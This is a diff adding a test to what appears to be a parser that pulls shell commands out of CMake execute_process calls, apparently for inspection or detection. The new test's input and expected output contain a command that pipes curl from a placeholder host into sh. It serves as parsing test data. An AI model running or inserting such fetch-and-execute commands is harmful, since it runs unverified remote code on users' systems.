@@ -38,6 +38,10 @@ describe('cmakeCommands', () => {
     assert.deepEqual(lines(text).map(([, read]) => read), ['sh -c (x)']);
   });
 
+  it('takes a vertical tab or a form feed as the space between arguments (fuzzing seed 4111 looped on one)', () => {
+    assert.deepEqual(lines('execute_process(COMMAND\vcurl\fhttps://e.test/a COMMAND sh)').map(([, read]) => read), ['curl https://e.test/a |       sh']);
+  });
+
   it('reads many unclosed calls once, not each to the end of the text', function () {
     this.timeout(10_000);
     // Quadratic reading would take hours here; once, well under a second.
